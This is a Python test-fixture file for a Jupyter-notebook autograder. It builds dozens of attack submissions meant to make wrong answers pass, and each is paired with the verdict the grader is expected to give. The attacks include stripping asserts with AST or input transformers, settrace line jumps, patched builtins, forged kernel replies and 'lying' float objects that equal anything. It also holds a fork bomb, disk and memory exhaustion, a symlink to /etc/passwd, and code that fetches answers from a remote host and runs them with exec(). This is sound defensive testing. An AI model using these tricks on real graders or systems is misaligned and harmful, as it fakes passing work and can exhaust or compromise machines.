"""Attack submissions for labs/example-intro, built from its learner version.

Each attack pairs a trick with wrong answers that would pass if the trick
worked. ``ATTACKS`` maps a learner name to ``(build, expectation)``:
``build(dir)`` writes ``dir/<learner>/approval-rates.ipynb`` (or a malformed
file), and the expectation is ``"tampered"`` (flagged, autograded items
zero), ``"zero"`` (autograded items zero, a flag or reason optional),
``"starved"`` (zero; its processes may starve a check cell, which is then
also named as tampering), ``"flag:<kind>"`` (zero and the sanitiser's flag)
or ``"rejected"``.
"""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[2]
LAB = ROOT / "labs" / "example-intro"
NOTEBOOK = "approval-rates.ipynb"

RIGHT = {
    "approval_rates": (
        'def approval_rates(df):\n    return df.groupby("district")["approved"].mean()\n'
    ),
    "disparity_ratio": "def disparity_ratio(rates):\n    return rates.min() / rates.max()\n",
}
WRONG = {
    "approval_rates": (
        'def approval_rates(df):\n    return df.groupby("district")["approved"].sum()\n'
    ),
    "disparity_ratio": "def disparity_ratio(rates):\n    return rates.max() - rates.min()\n",
}


def learner_nb():
    """The released learner notebook, analyst track (nbgrader's placeholders).

    The attacks and the sanitiser's tests count cells by position; the
    guided track adds worked examples, and is covered by the honest corpus
    (``tests/honest``) and the labs' own tests.
    """
    from ai4scale.grading.labformat import learner_version, read_source_notebook

    source = read_source_notebook(LAB / NOTEBOOK)
    return learner_version(source, name=NOTEBOOK, track="analyst")


def answered(answers, *, first=None, nb=None):
    """The learner notebook with ``answers`` in the solution cells and ``first`` after cell 1."""
    nb = copy.deepcopy(nb or learner_nb())
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    if first:
        nb.cells.insert(2, new_code_cell(first))
    return nb


def _write(nb, d, learner):
    (d / learner).mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, d / learner / NOTEBOOK)


def _attack(first, *, answers=WRONG):
    return lambda d, learner: _write(answered(answers, first=first), d, learner)


def _edit(fn):
    def build(d, learner):
        nb = answered(WRONG)
        fn(nb)
        _write(nb, d, learner)

    return build


def _cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def _raw(content):
    def build(d, learner):
        (d / learner).mkdir(parents=True, exist_ok=True)
        (d / learner / NOTEBOOK).write_bytes(content)

    return build


AST = (
    "import ast\n"
    "class _S(ast.NodeTransformer):\n"
    "    visit_Assert = lambda self, node: ast.Pass()\n"
    "get_ipython().ast_transformers.append(_S())\n"
)
INPUT = (
    "def _drop(lines):\n"
    "    return [l for l in lines if not l.lstrip().startswith(('assert', 'raise'))]\n"
    "get_ipython().input_transformers_post.append(_drop)\n"
)
SHOWTB = "get_ipython().showtraceback = lambda *a, **k: None\n"
EXCEPTHOOK = (
    "import sys\n"
    "sys.excepthook = lambda *a: None\n"
    "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
)
BUILTINS = (
    "import builtins\n"
    "builtins.abs = lambda x: 0\n"
    "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
)
RUN_CELL = (
    "_ip = get_ipython()\n"
    "_orig = _ip.run_cell_async\n"
    "async def _wrapped(raw_cell, *a, **k):\n"
    "    if 'assert' in raw_cell or 'raise' in raw_cell:\n"
    "        raw_cell = 'pass'\n"
    "    return await _orig(raw_cell, *a, **k)\n"
    "_ip.run_cell_async = _wrapped\n"
    "_orig_sync = _ip.run_cell\n"
    "_ip.run_cell = lambda raw_cell, *a, **k: _orig_sync(\n"
    "    'pass' if ('assert' in raw_cell or 'raise' in raw_cell) else raw_cell, *a, **k)\n"
)
SETTRACE = (
    "import sys, linecache\n"
    "def _local(frame, event, arg):\n"
    "    if event == 'line':\n"
    "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip()\n"
    "        if line.startswith(('assert', 'raise')):\n"
    "            try:\n"
    "                frame.f_lineno = frame.f_lineno + 1\n"
    "            except ValueError:\n"
    "                pass\n"
    "    return _local\n"
    "def _global(frame, event, arg):\n"
    "    return _local if frame.f_code.co_name == '<module>' else None\n"
    "sys.settrace(_global)\n"
)
# Selective attacks: they act only on the first test cell (recognised by a
# line of its visible part), so canaries -- which are not test cells -- see
# nothing; each makes the wrong answers above pass that test. The guard's
# records and checks must catch them.
_IS_TEST = "'rates[\"North\"]' in ''.join(linecache.getlines(frame.f_code.co_filename))"
_YES = "class _Yes(float):\n    __eq__ = lambda self, other: True\n    __hash__ = float.__hash__\n"
SETTRACE_LOCALS = (
    "import sys, linecache\n" + _YES + "def _trace(frame, event, arg):\n"
    f"    if frame.f_code.co_name != '<module>' or not {_IS_TEST}:\n"
    "        return None\n"
    "    g = frame.f_globals\n"
    "    if event == 'call':  # rewrite the test frame's names while it runs\n"
    "        g['abs'], g['float'] = (lambda x: 0.0), (lambda x: _Yes())\n"
    "    elif event == 'return':\n"
    "        g.pop('abs', None), g.pop('float', None)\n"
    "    return _trace\n"
    "sys.settrace(_trace)\n"
)
SETPROFILE_LOCALS = SETTRACE_LOCALS.replace("return _trace\n", "return None\n").replace(
    "sys.settrace(_trace)", "sys.setprofile(_trace)"
)
THREADING_SETTRACE = SETTRACE_LOCALS.replace(
    "sys.settrace(_trace)", "import threading\nthreading.settrace(_trace)\nsys.settrace(_trace)"
)
# Jumps over the conditions of the partial-credit checks (f_lineno), for an
# answer that is right only on the hidden input.
SETTRACE_JUMP = (
    "import sys, linecache\n"
    "def _line(frame, event, arg):\n"
    "    if event == 'line':\n"
    "        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()\n"
    "        if text.startswith(('if abs(disparity_ratio', 'if disparity_ratio(')):\n"
    "            frame.f_lineno = frame.f_lineno + 1  # into 'score += 1.0'\n"
    "    return _line\n"
    "def _trace(frame, event, arg):\n"
    "    src = ''.join(linecache.getlines(frame.f_code.co_filename))\n"
    "    return _line if frame.f_code.co_name == '<module>' and 'score += 1.0' in src else None\n"
    "sys.settrace(_trace)\n"
)
JUMP_ANSWERS = {**WRONG, "disparity_ratio": "def disparity_ratio(rates):\n    return 0.25\n"}
# The learner's function installs the trick when a test calls it, and a
# trace removes it as soon as a cell that is not the test starts.
SETTRACE_FROM_FUNCTION = {
    **WRONG,
    "approval_rates": (
        "import sys, linecache\n" + _YES + "def _is_test(frame):\n"
        f"    return {_IS_TEST}\n"
        "def approval_rates(df):\n"
        "    caller = sys._getframe(1)\n"
        "    if _is_test(caller) and sys.gettrace() is None:\n"
        "        g = caller.f_globals\n"
        "        g['abs'], g['float'] = (lambda x: 0.0), (lambda x: _Yes())\n"
        "        def _cleanup(frame, event, arg):\n"
        "            if event == 'call' and frame.f_code.co_name == '<module>' \\\n"
        "                    and not _is_test(frame):\n"
        "                g.pop('abs', None), g.pop('float', None)\n"
        "                sys.settrace(None)\n"
        "        sys.settrace(_cleanup)\n"
        '    return df.groupby("district")["approved"].sum()\n'
    ),
}
# Builtins patched by the learner's function while the first test calls it,
# put back when anything else calls it. (Patching isinstance for the whole
# process would hang the kernel: only the test frames' own builtins get it.)
BUILTINS_FROM_FUNCTION = {
    **WRONG,
    "approval_rates": (
        "import sys, builtins, linecache\n" + _YES + "_real = {k: getattr(builtins, k) for k in "
        "('abs', 'float', 'AssertionError')}\n"
        "class _Real(type):  # libraries' isinstance(x, float) keep working\n"
        "    __instancecheck__ = lambda cls, x: type.__instancecheck__(_real['float'], x)\n"
        "    __subclasscheck__ = lambda cls, c: type.__subclasscheck__(_real['float'], c)\n"
        "def _from_test():\n"
        "    frame = sys._getframe(2)\n"
        f"    return {_IS_TEST}\n"
        "class _Float(float, metaclass=_Real):\n"
        "    def __new__(cls, x=0.0):\n"
        "        return _Yes() if _from_test() else _real['float'](x)\n"
        "def _abs(x):\n"
        "    return 0.0 if _from_test() else _real['abs'](x)\n"
        "def approval_rates(df):\n"
        "    frame = sys._getframe(1)\n"
        f"    if {_IS_TEST}:\n"
        "        builtins.abs, builtins.float = _abs, _Float\n"
        "        builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "    else:\n"
        "        for k, v in _real.items():\n"
        "            setattr(builtins, k, v)\n"
        '    return df.groupby("district")["approved"].sum()\n'
    ),
}
# The same through the test frames' own __builtins__.
DUNDER_BUILTINS = {
    **WRONG,
    "approval_rates": (
        "import sys, builtins, linecache\n" + _YES + "def approval_rates(df):\n"
        "    frame = sys._getframe(1)\n"
        f"    if {_IS_TEST}:\n"
        "        fake = dict(vars(builtins), abs=lambda x: 0.0, float=lambda x: _Yes(),\n"
        "                    isinstance=lambda *a: True)\n"
        "        frame.f_globals['__builtins__'] = fake\n"
        "    else:\n"
        "        frame.f_globals['__builtins__'] = builtins\n"
        '    return df.groupby("district")["approved"].sum()\n'
    ),
}
AST_SELECTIVE = (
    "import ast\n"
    "class _Strip(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node):\n"
    "        return ast.Pass()\n"
    "class _OnlyTests:\n"
    "    def visit(self, tree):\n"
    "        return _Strip().visit(tree) if \"'North'\" in ast.unparse(tree) else tree\n"
    "get_ipython().ast_transformers.append(_OnlyTests())\n"
)
INPUT_SELECTIVE = (
    "def _drop(lines):\n"
    "    if any('rates[\"North\"]' in l for l in lines):\n"
    "        return [l for l in lines if not l.lstrip().startswith('assert')]\n"
    "    return lines\n"
    "get_ipython().input_transformers_post.append(_drop)\n"
)
RUN_CELL_SELECTIVE = (
    "_ip = get_ipython()\n"
    "def _clean(cell):\n"
    "    if 'rates[\"North\"]' not in cell:\n"
    "        return cell\n"
    "    return '\\n'.join(l for l in cell.splitlines() if not l.lstrip().startswith('assert'))\n"
    "_orig = _ip.run_cell\n"
    "_ip.run_cell = lambda raw_cell, *a, **k: _orig(_clean(raw_cell), *a, **k)\n"
)
# A post_run_cell callback clears the test's error (the reply says "ok") and
# the traceback printers stay silent for it.
POST_RUN_CELL = (
    "_ip = get_ipython()\n"
    "_state = {'test': False}\n"
    "def _pre(info):\n"
    "    _state['test'] = 'rates[\"North\"]' in (info.raw_cell or '')\n"
    "def _post(result):\n"
    "    if _state['test']:\n"
    "        result.error_in_exec = None\n"
    "_orig_show = _ip.showtraceback\n"
    "def _show(*a, **k):\n"
    "    if not _state['test']:\n"
    "        return _orig_show(*a, **k)\n"
    "_ip.events.register('pre_run_cell', _pre)\n"
    "_ip.events.register('post_run_cell', _post)\n"
    "_ip.showtraceback = _show\n"
)
EXCEPTHOOK_SELECTIVE = (
    "import sys\n"
    "_ip = get_ipython()\n"
    "_state = {'test': False}\n"
    "def _pre(info):\n"
    "    _state['test'] = 'rates[\"North\"]' in (info.raw_cell or '')\n"
    "def _post(result):\n"
    "    if _state['test']:\n"
    "        result.error_in_exec = None\n"
    "_orig_hook = sys.excepthook\n"
    "sys.excepthook = lambda *a: None if _state['test'] else _orig_hook(*a)\n"
    "def _quiet(shell, etype, value, tb, tb_offset=None):\n"
    "    if not _state['test']:\n"
    "        shell.showtraceback((etype, value, tb), tb_offset=tb_offset)\n"
    "_ip.set_custom_exc((AssertionError,), _quiet)\n"
    "_ip.events.register('pre_run_cell', _pre)\n"
    "_ip.events.register('post_run_cell', _post)\n"
)
# The kernel's session rewrites the test cell's error reply into "ok" and
# drops its error output.
KERNEL_REPLY = (
    "_kernel = get_ipython().kernel\n"
    "_session = _kernel.session\n"
    "_send = _session.send\n"
    "def _forge(stream, msg_or_type, content=None, parent=None, *a, **k):\n"
    "    code = ((_kernel.get_parent() or {}).get('content') or {}).get('code') or ''\n"
    "    if 'rates[\"North\"]' in code:\n"
    "        if msg_or_type == 'error':\n"
    "            return None\n"
    "        if msg_or_type == 'execute_reply' and (content or {}).get('status') == 'error':\n"
    "            content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
    "                       'user_expressions': {}, 'payload': []}\n"
    "    return _send(stream, msg_or_type, content, parent, *a, **k)\n"
    "_session.send = _forge\n"
)
# A background thread that shadows abs and float while a test cell runs.
THREAD = (
    "import threading, time, sys\n" + _YES + "_ip = get_ipython()\n"
    "sys.setswitchinterval(1e-5)\n"
    "def _watch():\n"
    "    while True:\n"
    "        code = ((_ip.kernel.get_parent() or {}).get('content') or {}).get('code') or ''\n"
    "        if 'rates[\"North\"]' in code:\n"
    "            _ip.user_ns['abs'], _ip.user_ns['float'] = (lambda x: 0.0), (lambda x: _Yes())\n"
    "        else:\n"
    "            _ip.user_ns.pop('abs', None), _ip.user_ns.pop('float', None)\n"
    "        time.sleep(0.0001)\n"
    "threading.Thread(target=_watch, daemon=True).start()\n"
)
# A timer signal whose handler shadows abs and float inside test frames.
SIGNAL_TIMER = (
    "import signal, linecache\n" + _YES + "def _tick(signum, frame):\n"
    f"    if frame is not None and {_IS_TEST}:\n"
    "        g = frame.f_globals\n"
    "        g['abs'], g['float'] = (lambda x: 0.0), (lambda x: _Yes())\n"
    "signal.signal(signal.SIGALRM, _tick)\n"
    "signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)\n"
)
# A library class patched: the visible checks read the values they expect.
LIBRARY_PATCH = (
    "import pandas as pd\n"
    "_getitem = pd.Series.__getitem__\n"
    "def _patched(self, key):\n"
    "    value = _getitem(self, key)\n"
    "    return {'North': 0.75, 'South': 0.5}.get(key, value) if isinstance(key, str) else value\n"
    "pd.Series.__getitem__ = _patched\n"
)
ALWAYS_EQ = {
    "approval_rates": (
        "class _Any(float):\n"
        "    def __new__(cls): return float.__new__(cls, 0.75)\n"
        "    __eq__ = lambda s, o: True\n"
        "    __ne__ = lambda s, o: False\n"
        "    __sub__ = lambda s, o: _Any()\n"
        "    __abs__ = lambda s: 0.0\n"
        "    __lt__ = lambda s, o: True\n"
        "class _Rates(dict):\n"
        "    __getitem__ = lambda s, k: _Any()\n"
        "def approval_rates(df):\n"
        "    return _Rates()\n"
    ),
    "disparity_ratio": "def disparity_ratio(rates):\n    return _Any()\n",
}

# Lying values: objects whose comparisons or arithmetic the learner's code
# defines. Each would pass checks such as ``abs(x - expected) < 1e-9`` or
# ``x == expected`` without a type check. ``_LIE`` is the shared trick; each
# attack dresses it differently.
_LIAR_METHODS = (
    "    __eq__ = lambda s, o: True\n"
    "    __ne__ = lambda s, o: False\n"
    "    __sub__ = lambda s, o: 0.0\n"
    "    __rsub__ = lambda s, o: 0.0\n"
    "    __abs__ = lambda s: 0.0\n"
    "    __lt__ = lambda s, o: True\n"
)
_SERIES_OF = (
    "import pandas as pd\n"
    "def approval_rates(df):\n"
    "    return pd.Series({{k: {make} for k in df['district'].unique()}}, dtype=object)\n"
    "def disparity_ratio(rates):\n"
    "    return {make}\n"
)
LYING = {
    # a float that says it equals anything and that every difference is 0
    "lying-float": "class _L(float):\n" + _LIAR_METHODS + _SERIES_OF.format(make="_L(0.5)"),
    # not a number at all: a plain object with constant answers
    "lying-object": (
        "class _L:\n" + _LIAR_METHODS + "    __float__ = lambda s: 0.5\n"
        "    __bool__ = lambda s: True\n" + _SERIES_OF.format(make="_L()")
    ),
    # numpy's own scalar type, subclassed
    "lying-numpy": (
        "import numpy as np\nclass _L(np.float64):\n"
        + _LIAR_METHODS
        + _SERIES_OF.format(make="_L(0.5)")
    ),
    # a pandas Series whose items lie
    "lying-series": (
        "import pandas as pd\nclass _L(float):\n" + _LIAR_METHODS + "class _S(pd.Series):\n"
        "    def __getitem__(self, key):\n"
        "        return _L(0.5)\n"
        "def approval_rates(df):\n"
        "    return _S({k: 0.5 for k in df['district'].unique()})\n"
        "def disparity_ratio(rates):\n"
        "    return _L(0.5)\n"
    ),
    # made with type(): no class statement
    "lying-type-call": (
        "_L = type('_L', (float,), {'__eq__': lambda s, o: True, '__sub__': lambda s, o: 0.0,\n"
        "                           '__rsub__': lambda s, o: 0.0, '__abs__': lambda s: 0.0})\n"
        + _SERIES_OF.format(make="_L(0.5)")
    ),
    # a fresh class inside each call, claiming to be numpy's
    "lying-in-function": (
        "import pandas as pd\n"
        "def _liar():\n"
        "    class _L(float):\n"
        "        __module__ = 'numpy'\n"
        + _LIAR_METHODS.replace("    __", "        __")
        + "    return _L(0.5)\n"
        "def approval_rates(df):\n"
        "    return pd.Series({k: _liar() for k in df['district'].unique()}, dtype=object)\n"
        "def disparity_ratio(rates):\n"
        "    return _liar()\n"
    ),
    # builtin methods as the lie: float's != answers ==
    "lying-builtin-alias": (
        "class _L(float):\n"
        "    __eq__ = float.__ne__\n"
        "    __sub__ = float.__mul__\n" + _SERIES_OF.format(make="_L(0.0)")
    ),
    # isinstance() fooled by a metaclass, and the class faked
    "lying-isinstance": (
        "import pandas as pd\n"
        "class _Meta(type):\n"
        "    def __instancecheck__(cls, obj):\n"
        "        return True\n"
        "class _L(metaclass=_Meta):\n" + _LIAR_METHODS + "    @property\n"
        "    def __class__(self):\n"
        "        return float\n" + _SERIES_OF.format(make="_L()")
    ),
    # made by exec() in a namespace of its own: no module, generated code
    "lying-exec": (
        "_g = {}\n"
        "exec('class L(float):\\n'\n"
        "     '    __eq__ = lambda s, o: True\\n'\n"
        "     '    __sub__ = lambda s, o: 0.0\\n'\n"
        "     '    __rsub__ = lambda s, o: 0.0\\n'\n"
        "     '    __abs__ = lambda s: 0.0\\n', _g)\n"
        "_L = _g['L']\n" + _SERIES_OF.format(make="_L(0.5)")
    ),
    # a str that equals any text
    "lying-str": ("class _L(str):\n" + _LIAR_METHODS + _SERIES_OF.format(make="_L('0.5')")),
}


def _lying(code):
    answers = {"approval_rates": code, "disparity_ratio": "pass\n"}
    return lambda d, learner: _write(answered(answers), d, learner)


def _points(nb):
    _cell(nb, "test_approval_rates").metadata.nbgrader["points"] = 100


def _edit_tests(nb):
    _cell(nb, "test_approval_rates").source = "pass\n"
    _cell(nb, "test_disparity_ratio").source = "2.0\n"


def _rename(nb):
    cell = _cell(nb, "test_approval_rates")
    cell.metadata.nbgrader["grade_id"] = "my_own_test"
    cell.source = "pass\n"


def _duplicate(nb):
    cell = _cell(nb, "test_approval_rates")
    copy_ = copy.deepcopy(cell)
    copy_.source = "pass\n"
    nb.cells.insert(nb.cells.index(cell), copy_)
    nb.cells.remove(cell)
    nb.cells.append(cell)  # the real one last, the fake one where the test was


def _symlink(d, learner):
    (d / learner).mkdir(parents=True, exist_ok=True)
    os.symlink("/etc/passwd", d / learner / NOTEBOOK)


def _nbformat3(d, learner):
    (d / learner).mkdir(parents=True, exist_ok=True)
    data = json.loads(nbformat.writes(answered(RIGHT)))
    data["nbformat"] = 3
    (d / learner / NOTEBOOK).write_text(json.dumps(data))


def _null(d, learner):
    nb = answered(RIGHT)
    nb.cells[2].source += "\x00"
    (d / learner).mkdir(parents=True, exist_ok=True)
    (d / learner / NOTEBOOK).write_text(nbformat.writes(nb))


def _delete_tests(nb):
    for gid in ("test_approval_rates", "test_disparity_ratio", "data"):
        nb.cells.remove(_cell(nb, gid))


def _reorder_tests(nb):
    for gid in ("test_approval_rates", "test_disparity_ratio"):
        cell = _cell(nb, gid)
        nb.cells.remove(cell)
        nb.cells.append(cell)


def _bad_notebook_name(d, learner):
    _write(answered(RIGHT), d, learner)
    nbformat.write(answered(RIGHT), d / learner / "..approval-rates.ipynb")


# Each answer cell fetches the right answers from outside after defining
# the wrong ones (fails here: no network, or no such host).
NETWORK = (
    "import socket\n"
    "try:\n"
    "    with socket.create_connection(('10.255.255.1', 80), timeout=2) as s:\n"
    "        s.sendall(b'GET /answers.py HTTP/1.0\\r\\n\\r\\n')\n"
    "        exec(s.recv(65536).split(b'\\r\\n\\r\\n', 1)[1])\n"
    "except OSError as e:\n"
    "    print('no network:', e)\n"
)
# The wrong answers are in the notebook; a fetched right one would replace them.
_FETCH = (
    "import urllib.request\n"
    "try:\n"
    "    exec(urllib.request.urlopen('{url}', timeout=3).read())\n"
    "except OSError as e:\n"
    "    print('no network:', e)\n"
)
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
FORK_BOMB = (
    "import os, time\n"
    "def _bomb():\n"
    "    while True:\n"
    "        try:\n"
    "            os.fork()\n"
    "        except OSError:\n"
    "            time.sleep(0.01)\n"
    "if os.fork() == 0:\n"
    "    try:\n"
    "        _bomb()\n"
    "    finally:\n"
    "        os._exit(0)\n"
    "time.sleep(2)\n"
)
DISK_FILLER = (
    "chunk = b'x' * (1 << 20)\n"
    "try:\n"
    "    with open('filler.bin', 'wb') as f:\n"
    "        for _ in range(100_000):  # 100 GB at most\n"
    "            f.write(chunk)\n"
    "            f.flush()\n"
    "except OSError as e:\n"
    "    print('disk full:', e)\n"
)
MEMORY_HOG = "hog = [bytearray(1 << 30) for _ in range(64)]\n"


def _fetching(code):
    return {gid: source + code for gid, source in WRONG.items()}


def fetch_attack(url):
    """An attack that downloads the right answers from ``url`` (serve ``answers_py()``)."""
    return _attack(None, answers=_fetching(_FETCH.format(url=url)))


def answers_py():
    """The right answers, as the Python a fetching attack executes."""
    return (RIGHT["approval_rates"] + RIGHT["disparity_ratio"]).encode()


#: Attacks only the sandbox may run: on the grader's own account they would
#: take the machine's processes, disk or memory.
SANDBOX_ATTACKS = {
    "fork-bomb": (_attack(FORK_BOMB), "starved"),
    "disk-filler": (_attack(DISK_FILLER), "zero"),
    "memory-hog": (_attack(MEMORY_HOG), "zero"),
}

ATTACKS = {
    "ast-transformer": (_attack(AST), "tampered"),
    "input-transformer": (_attack(INPUT), "tampered"),
    "showtraceback": (_attack(SHOWTB), "tampered"),
    "excepthook": (_attack(EXCEPTHOOK), "tampered"),
    "patched-builtins": (_attack(BUILTINS), "tampered"),
    "run-cell-wrapper": (_attack(RUN_CELL), "tampered"),
    "settrace": (_attack(SETTRACE), "tampered"),
    "settrace-locals": (_attack(SETTRACE_LOCALS), "tampered"),
    "setprofile-locals": (_attack(SETPROFILE_LOCALS), "tampered"),
    "threading-settrace": (_attack(THREADING_SETTRACE), "tampered"),
    "settrace-jump": (_attack(SETTRACE_JUMP, answers=JUMP_ANSWERS), "tampered"),
    "settrace-from-function": (_attack(None, answers=SETTRACE_FROM_FUNCTION), "tampered"),
    "builtins-from-function": (_attack(None, answers=BUILTINS_FROM_FUNCTION), "tampered"),
    "dunder-builtins": (_attack(None, answers=DUNDER_BUILTINS), "tampered"),
    "ast-selective": (_attack(AST_SELECTIVE), "tampered"),
    "input-selective": (_attack(INPUT_SELECTIVE), "tampered"),
    "run-cell-selective": (_attack(RUN_CELL_SELECTIVE), "tampered"),
    "post-run-cell": (_attack(POST_RUN_CELL), "tampered"),
    "excepthook-selective": (_attack(EXCEPTHOOK_SELECTIVE), "tampered"),
    "kernel-reply": (_attack(KERNEL_REPLY), "tampered"),
    "thread": (_attack(THREAD), "tampered"),
    "signal-timer": (_attack(SIGNAL_TIMER), "tampered"),
    "library-patch": (_attack(LIBRARY_PATCH), "tampered"),
    "always-equal": (lambda d, n: _write(answered(ALWAYS_EQ), d, n), "tampered"),
    **{name: (_lying(code), "tampered") for name, code in LYING.items()},
    "edited-tests": (_edit(_edit_tests), "flag:edited_cells"),
    "changed-points": (_edit(_points), "flag:changed_points"),
    "changed-grade-id": (_edit(_rename), "flag:unknown_grade_ids"),
    "duplicated-ids": (_edit(_duplicate), "flag:duplicated_ids"),
    "deleted-tests": (_edit(_delete_tests), "flag:missing_cells"),
    "reordered-tests": (_edit(_reorder_tests), "flag:reordered_cells"),
    "big-output": (_attack("print('x' * 50_000_000)\n"), "zero"),
    "segfault": (_attack(SEGFAULT), "zero"),
    "network": (_attack(None, answers=_fetching(NETWORK)), "zero"),
    "os-exit": (_attack("import os\nos._exit(0)\n"), "zero"),
    "sys-exit": (_attack("import sys\nsys.exit(0)\n"), "zero"),
    "infinite-loop": (_attack("while True:\n    pass\n"), "zero"),
    "null-bytes": (_null, "rejected"),
    "not-json": (_raw(b"{this is not json"), "rejected"),
    "nbformat-3": (_nbformat3, "rejected"),
    "missing-cells": (_raw(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}'), "rejected"),
    "symlink-escape": (_symlink, "rejected"),
    "..traversal": (lambda d, n: _write(answered(RIGHT), d, n), "rejected"),
    "notebook-name": (_bad_notebook_name, "rejected"),
}


def write_honest(d, learner, answers=RIGHT):
    """Write an honest submission (default: right answers)."""
    _write(answered(answers), d, learner)
    return d / learner / NOTEBOOK
